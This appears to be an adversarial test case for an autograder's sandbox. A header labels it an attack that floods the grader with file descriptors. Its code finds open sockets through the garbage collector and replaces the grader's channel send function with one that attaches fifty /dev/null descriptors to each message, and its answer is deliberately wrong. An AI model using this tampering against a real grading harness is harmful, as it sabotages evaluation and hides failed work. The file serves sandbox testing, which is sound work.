# ---
# attack: 'Sends descriptors and urgent bytes along with its answers, to fill the grader''s table.'
# class: forging or flooding wire frames and handles
# sandboxes: [namespaces, off]
# ---
# %% before="q1"
import gc
import os
import socket

sockets = [thing for thing in gc.get_objects() if type(thing) is socket.socket]
wire = next(thing for thing in sockets if thing.fileno() >= 0)
null = os.open("/dev/null", os.O_RDONLY)
genuine = type(wire).send
from autograder.candidate.channel import Channel


def generous(self, part, deadline):
    while part:
        part = part[socket.send_fds(self.sock, [part], [null] * 50) :]


Channel._send = generous

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
